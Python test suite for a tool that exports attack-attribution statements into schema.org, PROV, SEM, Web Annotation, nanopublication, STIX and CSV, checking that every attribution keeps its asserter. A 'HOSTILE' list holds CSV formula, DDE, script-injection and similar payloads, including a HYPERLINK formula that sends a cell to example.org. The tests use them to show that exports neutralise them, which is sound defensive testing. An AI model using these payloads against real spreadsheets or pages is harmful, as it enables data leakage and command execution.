"""Interchange profiles: what each tells is expected, valid by its own standard, and never says who did it without who says so."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pyoxigraph as ox
import pytest
import stix2
import stix2validator
from pyoxigraph import Literal, NamedNode

from communique import filling, load, profiles
from communique.content import Content
from communique.errors import Faulty
from communique.param import ATTACK, typed
from communique.profiles import FORMS, Profile, nanopub, render, stix, table, walk
from communique.store import rows
from communique.store.embedded import Embedded
from communique.vocab import CMQ, CODE, ID, RDF, XSD, node
from conftest import ROOT, TINY, Server, communique, filled
from remotes import NAMES as OTHERS
from remotes import environ, running
from test_http import problem

EXPECTED = ROOT / "tests" / "expected" / "profiles"
NAMES = sorted(path.stem for path in (ROOT / "queries" / "profiles").glob("*.rq"))
GRAPHS = [name for name in NAMES if name not in ("flat", "nanopub", "stix")]
ATTACK_NAME = "balad-20-february"
CMQ_PREFIX = f"PREFIX cmq: <{CMQ}>"
STANCES = f"PREFIX stance: <{CODE}stance/>"
AFFIRMING = "stance:claims, stance:blames, stance:confesses, stance:affirms"
PROV = "http://www.w3.org/ns/prov#"
OA = "http://www.w3.org/ns/oa#"
SEM = "http://semanticweb.cs.vu.nl/2009/11/sem/"
SCHEMA = "https://schema.org/"


def read(content: Content, name: str) -> Profile:
    return profiles.find(profiles.load(content), name)


def told(store: Embedded, content: Content, name: str, form: str | None = None, attack: str | None = None) -> bytes:
    """A profile of the store's data as it is written."""
    profile, out = read(content, name), io.BytesIO()
    chosen = profile.formats[0] if form is None else FORMS[form]
    iri = typed(ATTACK, attack) if attack else None
    assert iri is None or isinstance(iri, NamedNode)
    render.write(store, content, render.Asked(profile, chosen, iri), out)
    return out.getvalue()


def graph(data: bytes, form: ox.RdfFormat = ox.RdfFormat.N_TRIPLES) -> Embedded:
    """What was written, in a store of its own."""
    held = Embedded.memory()
    held.engine.load(data, format=form)
    return held


def ask(held: Embedded, pattern: str) -> bool:
    return bool(held.query(f"{CMQ_PREFIX} {STANCES} ASK {{ {pattern} }}"))


def values(held: Embedded, pattern: str, names: str = "*") -> set[tuple[str, ...]]:
    """The rows of a pattern, as texts."""
    found = rows(held, f"{CMQ_PREFIX} {STANCES} SELECT {names} WHERE {{ {pattern} }}")
    return {tuple(term.value for term in row) for row in found}


def number(held: Embedded, pattern: str, names: str = "*") -> int:
    return len(values(held, pattern, names))


@pytest.fixture(scope="module", params=["curated", "tiny"])
def data(request: pytest.FixtureRequest, content: Content, tiny: Content) -> tuple[Embedded, Content]:
    """The curated graph; and a tiny one, in which an attack is claimed, blamed on two, and denied."""
    chosen = content if request.param == "curated" else tiny
    return filled(chosen), chosen


# -- what is expected


@pytest.mark.parametrize("name", NAMES)
def test_one_attack_is_as_expected(name: str, store: Embedded, content: Content) -> None:
    expected = next(EXPECTED.glob(f"{name}.attack.*"))
    assert told(store, content, name, attack=ATTACK_NAME) == expected.read_bytes()


@pytest.mark.parametrize("name", NAMES)
def test_all_data_is_as_expected(name: str, tiny_store: Embedded, tiny: Content) -> None:
    expected = next(EXPECTED.glob(f"{name}.tiny.*"))
    assert told(tiny_store, tiny, name) == expected.read_bytes()


def test_no_expected_file_is_left_over() -> None:
    assert {path.name.split(".")[0] for path in EXPECTED.iterdir()} == set(NAMES)


@pytest.mark.parametrize("name", NAMES)
def test_every_profile_tells_what_it_loses(name: str, content: Content) -> None:
    profile = read(content, name)
    assert profile.maps
    assert profile.lost
    assert profile.standard.startswith("https://")


@pytest.mark.parametrize("name", NAMES)
def test_the_order_of_loading_and_the_size_of_a_batch_change_no_byte(
    name: str, tiny: Content, tiny_store: Embedded, monkeypatch: pytest.MonkeyPatch
) -> None:
    backwards = Embedded.memory()
    loader = load.Loader(backwards, tiny, lambda data, file: [])
    loader.vocabulary()
    assert not filling.load_all(loader, tiny.reports()[::-1], lambda name, became: None).refused
    written = told(tiny_store, tiny, name)
    assert told(backwards, tiny, name) == written
    monkeypatch.setattr(walk, "BATCH", 1)
    if name == "sem":
        # A statement is tied to its event where the statement is told, so the event's triples stand apart.
        one, many = (set(ox.parse(d, format=ox.RdfFormat.TURTLE)) for d in (told(tiny_store, tiny, name), written))
        assert one == many
    assert name == "sem" or told(tiny_store, tiny, name) == written


@pytest.mark.parametrize("name", NAMES)
def test_the_query_as_it_stands_gives_the_whole(name: str, tiny_store: Embedded, tiny: Content) -> None:
    """So another store that has our dump needs nothing of this program."""
    profile = read(tiny, name)
    nodes = list(walk.scope(tiny_store, tiny, profile, None))
    batched = [item for batch in walk.told(tiny_store, profile, nodes) for item in batch]
    whole = list(tiny_store.query(profile.query.text))  # type: ignore[arg-type]
    if name == "flat":
        assert [list(map(str, row)) for row in whole] == [list(map(str, row)) for row in batched]
        return
    assert set(batched) <= set(whole)
    # Asked of everything, it tells the names of codes too, and the like.
    extra = {t.subject.value.partition("#")[0] for t in set(whole) - set(batched)}
    assert not extra & {node.value for node in nodes}


@pytest.mark.parametrize("name", NAMES)
def test_one_attack_is_a_part_of_all(name: str, store: Embedded, content: Content) -> None:
    one, everything = (told(store, content, name, attack=attack).splitlines() for attack in (ATTACK_NAME, None))
    if name in ("flat", "stix"):
        assert {line.rstrip(b",") for line in one[1:-1]} < {line.rstrip(b",") for line in everything}
    else:
        form = "nq" if name == "nanopub" else "nt"
        one, everything = (told(store, content, name, form, attack).splitlines() for attack in (ATTACK_NAME, None))
        assert set(one) < set(everything)
    assert len(one) < len(everything)


def test_statements_about_statements_belong_to_the_attack(store: Embedded, content: Content) -> None:
    attack = node("event", ATTACK_NAME)
    about = values(
        store, f"?c cmq:aboutEvent {attack} . ?s cmq:expresses ?c . ?d cmq:aboutStatement ?s . ?said cmq:expresses ?d"
    )
    assert about
    listed = told(store, content, "flat", attack=ATTACK_NAME).decode()
    assert all(row[-1] in listed or any(part in listed for part in row) for row in about)


# -- the law


def test_no_event_of_schema_org_has_an_actor(data: tuple[Embedded, Content]) -> None:
    held = graph(told(*data, "schema", "nt"))
    of_events = {p for (p,) in values(held, f"?e a <{SCHEMA}Event> ; ?p ?o", "DISTINCT ?p")}
    allowed = {f"{SCHEMA}{name}" for name in ("name", "alternateName", "additionalType", "sameAs")}
    assert of_events <= {RDF.type.value, *allowed}
    # Only a Claim speaks of an event, and no Claim is without its author.
    assert not ask(held, f"?x ?p ?e . ?e a <{SCHEMA}Event> MINUS {{ ?x a <{SCHEMA}Claim> }}")
    claims = number(held, f"?c a <{SCHEMA}Claim>")
    assert claims == number(held, f"?c a <{SCHEMA}Claim> ; <{SCHEMA}author> ?a")
    assert claims == number(data[0], "?s a cmq:Statement")
    assert claims == number(held, f"?c <{SCHEMA}keywords> ?k FILTER(STRSTARTS(STR(?k), '{CODE}stance/'))")


def test_no_view_of_sem_is_without_its_authority(data: tuple[Embedded, Content]) -> None:
    held = graph(told(*data, "sem", "nt"))
    for name in ("hasActor", "hasPlace", "hasTime"):
        assert not ask(held, f"?s <{SEM}{name}> ?o")
    views = number(held, f"?v a <{SEM}View>")
    assert views == number(held, f"?v a <{SEM}View> ; <{SEM}accordingTo> ?a . ?a a <{SEM}Authority>")
    assert not ask(held, f"?v <{RDF}value> ?o MINUS {{ ?v <{SEM}accordingTo> ?a }}")
    # A value under a denial would be what the denier says.
    assert not ask(
        held, f"?v <{RDF}value> ?o ; <{SEM}type> ?t FILTER(?t IN (stance:denies, stance:declines, stance:unsure))"
    )
    # What is said to have done it is told by every statement that affirms it, and by no other.
    said = f"?s cmq:stance ?st ; cmq:expresses ?c . ?c cmq:responsibleActor ?a FILTER(?st IN ({AFFIRMING}))"
    wanted = values(data[0], f"{said}", "?s ?a")
    assert wanted <= values(held, f"?v <{RDF}value> ?a", "?v ?a")
    assert not ask(held, f"?e a <{SEM}Event> ; ?p ?a . ?a a <{SEM}Actor>")


def test_no_statement_of_prov_is_without_its_asserter(data: tuple[Embedded, Content]) -> None:
    held = graph(told(*data, "prov", "nt"))
    assert not ask(held, f"?a a <{PROV}Activity>")
    assert not ask(held, f"?a <{PROV}wasAssociatedWith> ?b")
    wanted = values(data[0], "?s cmq:assertedBy ?a ; cmq:stance ?st", "?s ?a ?st")
    qualified = f"?s <{PROV}qualifiedAttribution> ?q . ?q <{PROV}hadRole> cmq:assertedBy ; <{PROV}agent> ?a"
    stance = f"?s <http://purl.org/dc/terms/type> ?st ; <{PROV}wasAttributedTo> ?a"
    assert values(held, f"{qualified} . {stance}", "?s ?a ?st") == wanted
    # Nothing but a statement points to an event, and no event points to anything.
    assert not ask(held, f"?e ?p ?o . FILTER(STRSTARTS(STR(?e), '{ID}event/') && ISIRI(?o))")


def test_no_annotation_is_without_its_asserter(data: tuple[Embedded, Content]) -> None:
    held = graph(told(*data, "oa", "nt"))
    bodies = number(held, f"?b a <{OA}TextualBody>")
    rests = "?s cmq:hasPassage ?p . ?p cmq:inReport ?r . ?r <https://schema.org/url> ?u"
    assert bodies == number(data[0], rests) > 0
    creator = f"?b <http://purl.org/dc/terms/creator> ?a ; <http://purl.org/dc/terms/source> ?s ; <{RDF}value> ?text"
    found = values(held, f"{creator}", "?s ?a ?text")
    assert {(s, a) for s, a, _ in found} <= values(data[0], "?s cmq:assertedBy ?a", "?s ?a")
    assert len({s for s, *_ in found}) == number(data[0], f"{rests}", "DISTINCT ?s")
    labels = values(data[0], "?a <http://www.w3.org/2004/02/skos/core#prefLabel> ?l", "?a ?l")
    assert all(any((a, text.partition(": ")[0]) == label for label in labels) for _, a, text in found)


def test_no_assertion_of_a_nanopublication_is_bare(data: tuple[Embedded, Content]) -> None:
    held = graph(told(*data, "nanopub", "nq"), ox.RdfFormat.N_QUADS)
    content = "?c cmq:responsibleActor ?x"
    said = "?s cmq:expresses ?c ; cmq:assertedBy ?a ; cmq:stance ?st"
    assert ask(held, f"GRAPH ?g {{ {content} }}")
    assert not ask(held, f"GRAPH ?g {{ {content} }} FILTER NOT EXISTS {{ GRAPH ?g {{ {said} }} }}")
    attributed = f"GRAPH ?g {{ {said} }} GRAPH ?h {{ ?g <{PROV}wasAttributedTo> ?a }}"
    assert number(held, f"{attributed}", "?s ?a") == number(data[0], "?s cmq:assertedBy ?a")
    # An event is pointed to and says nothing.
    assert not ask(held, f"GRAPH ?g {{ ?e ?p ?o FILTER(STRSTARTS(STR(?e), '{ID}event/')) }}")


def test_nothing_is_attributed_in_stix_but_by_its_asserter(data: tuple[Embedded, Content]) -> None:
    bundle = json.loads(told(*data, "stix"))
    relations = [o for o in bundle["objects"] if o["type"] == "relationship"]
    ids = {o["id"] for o in bundle["objects"]}
    found = {
        (o["source_ref"], o["target_ref"], o["created_by_ref"], o["external_references"][-1]["url"]) for o in relations
    }
    said = f"?s cmq:assertedBy ?by ; cmq:stance ?st ; cmq:expresses ?c . ?c cmq:aboutEvent ?e ; cmq:responsibleActor ?a FILTER(?st IN ({AFFIRMING}))"
    wanted = values(data[0], f"{said}", "?e ?a ?by ?s")
    name = stix.identifier
    assert found == {
        (name(f"{e}#incident"), name(f"{a}#identity"), name(f"{by}#identity"), s) for e, a, by, s in wanted
    }
    assert all(o["relationship_type"] == "attributed-to" and o["created_by_ref"] in ids for o in relations)
    assert all("created_by_ref" in o for o in bundle["objects"] if o["type"] in ("note", "opinion"))
    assert not [o for o in bundle["objects"] if o["type"] in ("threat-actor", "intrusion-set", "campaign")]
    # An incident is a name.
    kept = {"type", "spec_version", "id", "created", "modified", "name", "external_references"}
    assert all(set(o) == kept for o in bundle["objects"] if o["type"] == "incident")


def test_in_stix_both_sides_of_a_dispute_stand(tiny_store: Embedded, tiny: Content) -> None:
    objects = json.loads(told(tiny_store, tiny, "stix"))["objects"]
    named = {o["id"]: o.get("name") for o in objects}
    told_of = {(named[o["target_ref"]], named[o["created_by_ref"]]) for o in objects if o["type"] == "relationship"}
    assert told_of == {
        ("Grey Brigade", "Grey Brigade"), ("Red Front", "Ministry of defence"), ("Grey Brigade", "مصادر محلية"),
    }  # fmt: skip
    (opinion,) = [o for o in objects if o["type"] == "opinion"]
    assert named[opinion["created_by_ref"]] == "Red Front"
    (denied,) = [o for o in objects if o["id"] in opinion["object_refs"]]
    assert (named[denied["created_by_ref"]], named[denied["target_ref"]]) == ("Ministry of defence", "Red Front")
    denials = {s for (s,) in values(tiny_store, "?s a cmq:Denial")}
    relations = [o for o in objects if o["type"] == "relationship"]
    assert not denials & {r["url"] for o in relations for r in o["external_references"]}


def test_every_row_of_the_table_says_who_asserts_it(data: tuple[Embedded, Content]) -> None:
    lines = list(csv.DictReader(io.StringIO(told(*data, "flat").decode(), newline="")))
    assert {line["statement"] for line in lines} == {s for (s,) in values(data[0], "?s a cmq:Statement")}
    assert len({line["statement"] for line in lines}) == len(lines)
    for line in lines:
        assert line["assertedBy"]
        assert line["assertedByName"]
        assert line["stance"]
        assert line["quote"]
    columns = list(lines[0])
    assert not [c for c in columns if re.search(r"perpetrator|culprit|responsib|attacker|actor$", c, re.IGNORECASE)]
    assert columns.index("stance") < columns.index("assertedBy") < columns.index("answer")
    answers = {
        (line["statement"], line["assertedBy"], line["answer"])
        for line in lines
        if line["aspect"] == "responsibility" and line["answer"]
    }
    who = "?s cmq:assertedBy ?by ; cmq:expresses ?c . ?c cmq:responsibleActor ?a"
    assert answers >= values(data[0], f"{who}", "?s ?by ?a")


def test_quotes_of_the_table_are_in_the_order_of_the_text(store: Embedded, content: Content) -> None:
    lines = {x["statement"]: x for x in csv.DictReader(io.StringIO(told(store, content, "flat").decode(), newline=""))}
    found = rows(
        store,
        f"{CMQ_PREFIX} SELECT ?s ?q {{ ?s cmq:hasPassage ?p . ?p cmq:quote ?q ; cmq:startOffset ?b }} ORDER BY ?s ?b",
    )
    quotes: dict[str, list[str]] = {}
    for row in found:
        quotes.setdefault(row["s"].value, []).append(row["q"].value)
    assert any(len(several) > 1 for several in quotes.values())
    assert {s: line["quote"] for s, line in lines.items()} == {s: " … ".join(q) for s, q in quotes.items()}


# -- each standard's own checks


@pytest.mark.parametrize("name", GRAPHS)
@pytest.mark.parametrize("form", ["ttl", "rdf", "jsonld"])
def test_every_format_holds_the_same_triples(name: str, form: str, data: tuple[Embedded, Content]) -> None:
    written = told(*data, name, form)
    if form == "jsonld":
        document = json.loads(written)
        # Its address would be fetched by no test; what of it we use is beside the query.
        own = json.loads((data[1].root / "queries" / "profiles" / f"{name}.jsonld").read_text("utf-8"))
        assert document["@context"] == (read(data[1], name).address or own["@context"])
        written = json.dumps({**document, **own}).encode()
    engine = {"ttl": ox.RdfFormat.TURTLE, "rdf": ox.RdfFormat.RDF_XML, "jsonld": ox.RdfFormat.JSON_LD}[form]
    plain = {q.triple for q in ox.parse(told(*data, name, "nt"), format=ox.RdfFormat.N_TRIPLES)}
    assert {_counted(q.triple) for q in ox.parse(written, format=engine)} == plain
    assert not [t for t in plain if isinstance(t.subject, ox.BlankNode) or isinstance(t.object, ox.BlankNode)]


def _counted(triple: ox.Triple) -> ox.Triple:
    """The Web Annotation context makes offsets xsd:nonNegativeInteger; the store has them as xsd:integer."""
    term = triple.object
    if isinstance(term, Literal) and term.datatype == XSD.nonNegativeInteger:
        return ox.Triple(triple.subject, triple.predicate, Literal(term.value, datatype=XSD.integer))
    return triple


# Read against each vocabulary's reference, 22 November 2026.
TERMS = {
    "schema": (SCHEMA, {
        "Event", "Claim", "ClaimReview", "Rating", "Quotation", "NewsArticle", "CreativeWork", "Person", "Organization",
        "NewsMediaOrganization", "GovernmentOrganization", "Thing", "Place", "name", "alternateName", "sameAs",
        "additionalType", "parentOrganization", "containedInPlace", "latitude", "longitude", "url", "inLanguage",
        "publisher", "datePublished", "dateCreated", "text", "isPartOf", "author", "sourceOrganization", "appearance",
        "citation", "keywords", "about", "mentions", "itemReviewed", "reviewRating",
    }),
    "sem": (SEM, {
        "Event", "Actor", "Place", "View", "Authority", "eventType", "actorType", "placeType", "roleType", "type",
        "eventProperty", "accordingTo",
    }),
    "prov": (PROV, {
        "Entity", "Agent", "Person", "Organization", "Attribution", "Location", "value", "atLocation", "wasAttributedTo",
        "qualifiedAttribution", "agent", "hadRole", "wasDerivedFrom", "wasQuotedFrom", "wasRevisionOf", "alternateOf",
    }),
    "oa": (OA, {
        "Annotation", "TextualBody", "SpecificResource", "TextQuoteSelector", "TextPositionSelector", "describing",
        "motivatedBy", "hasBody", "hasTarget", "hasSource", "hasSelector", "exact", "start", "end",
    }),
}  # fmt: skip


@pytest.mark.parametrize("name", GRAPHS)
def test_every_term_is_one_of_the_standard(name: str, data: tuple[Embedded, Content]) -> None:
    base, terms = TERMS[name]
    written = (data[1].root / "queries" / "profiles" / f"{name}.rq").read_text("utf-8").partition("CONSTRUCT")[2]
    used = set(re.findall(rf"(?<![\w:]){name}:(\w+)", written))
    found = {q.predicate.value for q in ox.parse(told(*data, name, "nt"), format=ox.RdfFormat.N_TRIPLES)}
    # schema:url is a term of our own data too.
    assert used <= terms
    assert {iri.removeprefix(base) for iri in found if iri.startswith(base)} <= terms


def test_prov_constraints_hold(data: tuple[Embedded, Content]) -> None:
    """https://www.w3.org/TR/prov-constraints/, as far as what we tell could break them."""
    held = graph(told(*data, "prov", "nt"))
    # Constraints 53 to 55: no node is of two disjoint kinds.
    assert not ask(held, f"?x a <{PROV}Entity> , <{PROV}Activity>")
    assert not ask(held, f"?x a <{PROV}Entity> , <{PROV}Agent>")
    # Inferences 13 and 15 leave nothing to infer: a qualified attribution has its plain one.
    qualified = f"?e <{PROV}qualifiedAttribution> ?q . ?q <{PROV}agent> ?a"
    assert ask(held, qualified)
    assert not ask(held, f"{qualified} MINUS {{ ?e <{PROV}wasAttributedTo> ?a }}")
    # Constraints 41 and 42: no entity comes of itself.
    assert not ask(held, f"?e (<{PROV}wasDerivedFrom>|<{PROV}wasQuotedFrom>|<{PROV}wasRevisionOf>)+ ?e")
    for name in ("wasQuotedFrom", "wasAttributedTo"):
        kind = "Entity" if name == "wasQuotedFrom" else "Agent"
        assert not ask(held, f"?e <{PROV}{name}> ?x MINUS {{ ?x a <{PROV}{kind}> }}")


def test_annotations_have_what_the_model_requires(data: tuple[Embedded, Content]) -> None:
    """https://www.w3.org/TR/annotation-model/, sections 3.1, 3.2.4, 4.1, 4.2.4, 4.2.5."""
    document = json.loads(told(*data, "oa"))
    assert document["@context"] == "http://www.w3.org/ns/anno.jsonld"
    identifiers = [a["id"] for a in document["@graph"]]
    assert len(set(identifiers)) == len(identifiers) > 0
    for annotation in document["@graph"]:
        assert annotation["type"] == "Annotation"
        assert annotation["motivation"] == "describing"
        body, target = annotation["body"], annotation["target"]
        assert body["type"] == "TextualBody"
        assert isinstance(body["value"], str)
        assert body["creator"].startswith(f"{ID}actor/")
        assert target["source"].startswith("https://")
        selectors = {s["type"]: s for s in target["selector"]}
        words, place = selectors["TextQuoteSelector"]["exact"], selectors["TextPositionSelector"]
        assert place["end"] - place["start"] == len(words) > 0


@pytest.fixture(scope="module")
def publications(data: tuple[Embedded, Content]) -> dict[str, dict[str, list[ox.Quad]]]:
    """Nanopublication -> graph -> quads, as written."""
    found: dict[str, dict[str, list[ox.Quad]]] = {}
    for quad in ox.parse(told(*data, "nanopub"), format=ox.RdfFormat.TRIG):
        assert isinstance(quad.graph_name, NamedNode)
        base, _, part = quad.graph_name.value.rpartition(".")
        found.setdefault(base, {}).setdefault(part, []).append(quad)
    return found


def test_nanopublications_keep_their_integrity(
    publications: dict[str, dict[str, list[ox.Quad]]], data: tuple[Embedded, Content]
) -> None:
    """https://nanopub.net/guidelines/working_draft/, section 3: well-formed nanopublications."""
    assert len(publications) == number(data[0], "?s a cmq:Statement")
    for iri, parts in publications.items():
        assert set(parts) == {"head", "assertion", "provenance", "pubinfo"}
        head = {(q.subject.value, q.predicate.value.rpartition("#")[2], q.object.value) for q in parts["head"]}  # type: ignore[union-attr]
        assert head == {
            (iri, "type", f"{nanopub.NP}Nanopublication"), (iri, "hasAssertion", f"{iri}.assertion"),
            (iri, "hasProvenance", f"{iri}.provenance"), (iri, "hasPublicationInfo", f"{iri}.pubinfo"),
        }  # fmt: skip
        assert any(q.subject == NamedNode(f"{iri}.assertion") for q in parts["provenance"])
        assert any(q.subject == NamedNode(iri) for q in parts["pubinfo"])
        terms = [t for quads in parts.values() for q in quads for t in q.triple]
        assert not [t for t in terms if isinstance(t, ox.BlankNode)]


def test_trusty_uris_are_verified_by_their_content(publications: dict[str, dict[str, list[ox.Quad]]]) -> None:
    """The check of the specification, on the quads as written: the code is taken out, and comes out of the hash."""
    for iri, parts in publications.items():
        code = iri.rpartition("#")[2]
        assert re.fullmatch(r"RA[A-Za-z0-9_-]{43}", code)
        assert verified(iri, [q for quads in parts.values() for q in quads]) == code
        changed = [
            ox.Quad(NamedNode(f"{ID}event/other"), q.predicate, q.object, q.graph_name) for q in parts["assertion"]
        ]
        assert verified(iri, [*changed, *parts["head"]]) != code


def verified(iri: str, quads: list[ox.Quad]) -> str:
    """The artifact code of a nanopublication, from its quads as anybody has them."""
    import base64
    import hashlib

    code = iri.rpartition("#")[2]

    def told_of(term: Any) -> tuple[bool, str, str, str]:
        if isinstance(term, Literal):
            language = (term.language or "").lower()
            return True, term.value, "" if language else term.datatype.value, language
        return False, term.value.replace(code, " "), "", ""

    lines = sorted((*(told_of(t) for t in (q.graph_name, q.subject, q.predicate, q.object)),) for q in quads)
    text = ""
    for line in lines:
        for literal, value, datatype, language in line:
            escaped = value.replace("\\", "\\\\").replace("\n", "\\n")
            lead = f"@{language} " if language else f"^{datatype} "
            text += (lead + escaped if literal else value) + "\n"
    return "RA" + base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode()[:43]


def test_stix_is_valid(data: tuple[Embedded, Content]) -> None:
    text = told(*data, "stix").decode()
    bundle = stix2.parse(text, allow_custom=False, version="2.1")
    assert len(bundle.objects) == len({o.id for o in bundle.objects})
    options = stix2validator.ValidationOptions(version="2.1", disabled="uuid-check")
    found = stix2validator.validate_string(text, options)
    assert found.is_valid, [str(e) for e in found.errors]
    ids = {o.id for o in bundle.objects}
    references = {ref for o in bundle.objects for ref in [*o.get("object_refs", []), o.get("created_by_ref")] if ref}
    assert references <= ids


def test_an_assessment_is_a_claim_review(tiny_store: Embedded, tiny: Content) -> None:
    tiny_store.engine.update(f"""{CMQ_PREFIX} INSERT {{ GRAPH ?g {{ <{ID}assessment/one> a cmq:Assessment ;
        cmq:assesses ?s ; cmq:assessor <{ID}actor/ministry> ; cmq:grade <{CODE}grade/doubtful> }} }}
        WHERE {{ GRAPH ?g {{ ?s a cmq:ClaimOfResponsibility }} }}""")
    held = graph(told(tiny_store, tiny, "schema", "nt"))
    review = (
        f"?r a <{SCHEMA}ClaimReview> ; <{SCHEMA}itemReviewed> ?c ; <{SCHEMA}author> ?a ; <{SCHEMA}reviewRating> ?g ."
    )
    assert values(
        held, f"{review} ?g a <{SCHEMA}Rating> ; <{SCHEMA}alternateName> ?n . ?c a <{SCHEMA}Claim>", "?a ?n"
    ) == {(f"{ID}actor/ministry", "doubtful")}


# -- what others wrote stays what it is

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1",  # noqa: RUF001  # meant
    '</script><script>alert("1")</script>', '"}],"objects":[{', "a\nb\r\nc,d;e", "<b>&amp;\\u0022\\", "\u202egnitsac", "000000000|x",
    "0000000001|x", "' ; DROP ALL ; '",
]  # fmt: skip


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_stay_words(words: str, tiny_store: Embedded, tiny: Content) -> None:
    text = Literal(words, language="en")
    for name, where in (
        ("quote", f"?s {CMQ.quote} ?o"),
        ("prefLabel", "?s ?p ?o . FILTER(STRENDS(STR(?p), '#prefLabel') && CONTAINS(STR(?s), '/id/'))"),
    ):
        predicate = CMQ.quote if name == "quote" else "?p"
        tiny_store.engine.update(
            f"DELETE {{ GRAPH ?g {{ ?s {predicate} ?o }} }} INSERT {{ GRAPH ?g {{ ?s {predicate} {text} }} }} WHERE {{ GRAPH ?g {{ {where} }} }}"
        )
    lines = list(csv.DictReader(io.StringIO(told(tiny_store, tiny, "flat").decode(), newline="")))
    assert len(lines) == number(tiny_store, "?s a cmq:Statement")
    for cell in (cell for line in lines for cell in line.values()):
        assert not re.match(r"\s*[=+\-@＝]|[\x00-\x1f]", cell)  # noqa: RUF001  # meant
    assert {line["quote"].removeprefix("'") for line in lines} == {words.removeprefix("'")}
    bundle = json.loads(told(tiny_store, tiny, "stix"))
    stix2.parse(bundle, allow_custom=False, version="2.1")
    assert {o["content"] for o in bundle["objects"] if o["type"] == "note"} == {words}
    assert {o["name"] for o in bundle["objects"] if o["type"] == "identity"} == {words}
    for name in GRAPHS:
        written = told(tiny_store, tiny, name, "jsonld")
        assert b"<" not in written
        assert words in told_strings(json.loads(written))
        triples = {q.triple for q in ox.parse(told(tiny_store, tiny, name, "ttl"), format=ox.RdfFormat.TURTLE)}
        assert triples == {
            q.triple for q in ox.parse(told(tiny_store, tiny, name, "nt"), format=ox.RdfFormat.N_TRIPLES)
        }
    quads = list(ox.parse(told(tiny_store, tiny, "nanopub"), format=ox.RdfFormat.TRIG))
    assert any(q.object == text for q in quads)


def told_strings(document: object) -> set[str]:
    """Every string of a JSON document."""
    if isinstance(document, dict):
        return set().union(*map(told_strings, document.values()))
    if isinstance(document, list):
        return set().union(*map(told_strings, document))
    return {document} if isinstance(document, str) else set()


@pytest.mark.parametrize(("cell", "written"), [("-5", "-5"), ("-5.25", "-5.25"), ("-5-", "'-5-"), ("", ""), ("5", "5")])
def test_numbers_are_no_formulas(cell: str, written: str) -> None:
    assert table.inert(cell) == written


# -- over HTTP and on the command line


def test_profiles_are_listed(client: httpx.Client) -> None:
    answer = client.get("/profiles/").json()
    assert [row["name"] for row in answer["rows"]] == NAMES
    for row in answer["rows"]:
        assert row["lost"]
        assert row["maps"]
        for form in row["formats"]:
            assert client.get(form["href"]).headers["content-type"].partition(";")[0] == form["mediaType"]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("attack", [None, ATTACK_NAME])
def test_http_gives_what_is_written(
    name: str, attack: str | None, client: httpx.Client, store: Embedded, content: Content
) -> None:
    params = {"attack": attack} if attack else {}
    answer = client.get(f"/profiles/{name}", params=params)
    assert answer.content == told(store, content, name, attack=attack)
    assert 'rel="describedby"' in answer.headers["link"]
    tag = answer.headers["etag"]
    again = client.get(f"/profiles/{name}", params=params, headers={"if-none-match": tag})
    assert (again.status_code, again.content) == (304, b"")
    assert client.head(f"/profiles/{name}", params=params).headers["etag"] == tag


def test_http_negotiates(client: httpx.Client, content: Content) -> None:
    turtle = client.get("/profiles/prov", params={"attack": ATTACK_NAME}, headers={"accept": "text/turtle"})
    named = client.get("/profiles/prov", params={"attack": ATTACK_NAME, "format": "nt"})
    assert turtle.headers["vary"].split(",")[0] == "Accept"
    assert {q.triple for q in ox.parse(turtle.content, format=ox.RdfFormat.TURTLE)} == {
        q.triple for q in ox.parse(named.content, format=ox.RdfFormat.N_TRIPLES)
    }
    assert turtle.headers["etag"] != named.headers["etag"]
    assert client.get("/profiles/stix").headers["content-type"] == "application/stix+json;version=2.1"
    query = client.get("/profiles/stix", params={"format": "rq"})
    assert query.text == (content.root / "queries" / "profiles" / "stix.rq").read_text("utf-8")


def test_what_http_refuses(client: httpx.Client) -> None:
    problem(client.get("/profiles/rdfa"), 404)
    problem(client.get("/profiles/stix", params={"attack": "nowhere"}), 404)
    problem(client.get("/profiles/stix", params={"attack": "no where"}), 400)
    problem(client.get("/profiles/stix", params={"event": "x"}), 400)
    problem(client.get("/profiles/stix?attack=a&attack=b"), 400)
    problem(client.get("/profiles/stix", params={"format": "ttl"}), 400)
    problem(client.get("/profiles/stix", headers={"accept": "text/turtle"}), 406)


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = str(tmp_path_factory.mktemp("profiles") / "store")
    assert communique("load", "--store", folder).returncode == 0
    return folder


def test_the_verb_writes_a_file(kept: str, tmp_path: Path, store: Embedded, content: Content) -> None:
    file = tmp_path / "balad.trig.gz"
    done = communique("export", "nanopub", str(file), "--store", kept, "--attack", ATTACK_NAME, "--gzip")
    assert done.returncode == 0, done.stderr
    assert gzip.decompress(file.read_bytes()) == told(store, content, "nanopub", attack=ATTACK_NAME)
    done = communique("export", "flat", str(tmp_path / "all.csv"), "--store", kept)
    assert (tmp_path / "all.csv").read_bytes() == told(store, content, "flat")
    assert "all.csv: One table of statements, version" in done.stdout


@pytest.mark.parametrize(
    ("arguments", "told_so"),
    [
        (("rdfa",), "there is no profile 'rdfa'"),
        (("stix", "--attack", "nowhere"), "no attack"),
        (("stix", "--format", "ttl"), "format 'ttl' is not one of stix, json"),
    ],
)
def test_the_verb_writes_all_or_nothing(arguments: tuple[str, ...], told_so: str, kept: str, tmp_path: Path) -> None:
    done = communique("export", arguments[0], str(tmp_path / "out"), *arguments[1:], "--store", kept)
    assert done.returncode == 1
    assert told_so in done.stderr
    assert not list(tmp_path.iterdir())


def test_a_header_that_lacks_something_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "mine.rq"
    file.write_text("#+ title: Mine\n#+ formats: xml\nCONSTRUCT { ?node a ?x } WHERE { ?node a ?x }", "utf-8")
    with pytest.raises(Faulty) as refused:
        profiles.read(file)
    said = "\n".join(refused.value.lines)
    for what in ("does not say 'lost'", "does not say 'nodes'", "'xml' in 'formats' is unknown"):
        assert what in said


# -- from another server's store


@pytest.fixture(scope="module", params=OTHERS)
def elsewhere(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """The service over another server, with the tiny graph."""
